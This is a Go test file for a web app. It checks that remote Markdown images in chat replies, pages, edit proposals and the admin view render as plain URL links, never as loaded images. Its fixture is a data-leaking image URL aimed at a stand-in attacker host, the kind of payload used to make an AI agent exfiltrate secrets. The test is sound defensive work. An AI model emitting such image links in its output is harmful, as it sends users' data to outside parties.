package handlers_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// One Markdown policy wherever Markdown is shown: a remote image quoted in
// a reply, written in a page or asked for in a proposal shows as a link
// whose text is its URL, never as an image, in the chat, the page editor's
// preview, the preview endpoint, the page panel with its proposal, and the
// admin's reading view.
func TestMarkdownPolicyEverywhere(t *testing.T) {
	a := newTestApp(t)
	ann := a.register("ann") // the first account: an administrator
	const leak = "http://attacker.example/leak.png?d=secret"
	img := "![x](" + leak + ")"
	link := `>` + strings.ReplaceAll(leak, "&", "&amp;") + `</a>`
	noImage := func(what, body string) {
		t.Helper()
		if strings.Contains(body, `src="http://attacker.example`) || strings.Contains(body, "<img") {
			t.Errorf("%s loads the remote image: %s", what, body)
		}
	}
	check := func(what, body string) {
		t.Helper()
		noImage(what, body)
		if !strings.Contains(body, link) {
			t.Errorf("%s does not show the image's URL as a link text: %s", what, body)
		}
	}

	ex := ann.chatSend(t, "what is "+img+" about?", 0) // the builtin agent quotes it back
	a.waitTurns()
	check("the chat", bodyOf(ann.get(fmt.Sprintf("/chat/%d", ex))))
	check("the chat's htmx fragment", bodyOf(ann.htmx(http.MethodGet, fmt.Sprintf("/chat/%d", ex), nil)))

	page := ann.pageCreate(t, "Trip", "Notes\n\n"+img+"\n")
	check("the page editor's preview", bodyOf(ann.get(fmt.Sprintf("/pages/%d/edit", page))))
	res := ann.htmx(http.MethodPost, fmt.Sprintf("/pages/%d/preview", page), url.Values{"content": {img}})
	mustStatus(t, res, http.StatusOK)
	check("the preview endpoint", bodyOf(res))

	// A proposal's card shows its diff as text; accepted, the page shows the
	// link.
	other := ann.pageCreate(t, "Plain", "Nothing here\n")
	_, msg := ann.pageProposal(t, other, "rewrite the page as: "+img, 0)
	body := bodyOf(ann.get(fmt.Sprintf("/pages/%d/edit", other)))
	if !strings.Contains(body, `data-testid="proposal"`) || !strings.Contains(body, "+"+img) {
		t.Fatalf("no proposal card with the image's line on the page: %s", body)
	}
	noImage("the page panel with its proposal", body)
	mustStatus(t, ann.postForm(fmt.Sprintf("/pages/%d/proposals/%d/accept", other, msg), nil), http.StatusSeeOther)
	check("the page with the proposal accepted", bodyOf(ann.get(fmt.Sprintf("/pages/%d/edit", other))))

	res = ann.postForm(fmt.Sprintf("/admin/exchanges/%d", ex), url.Values{"reason": {"check"}})
	mustStatus(t, res, http.StatusOK)
	check("the admin's reading view", bodyOf(res))
}
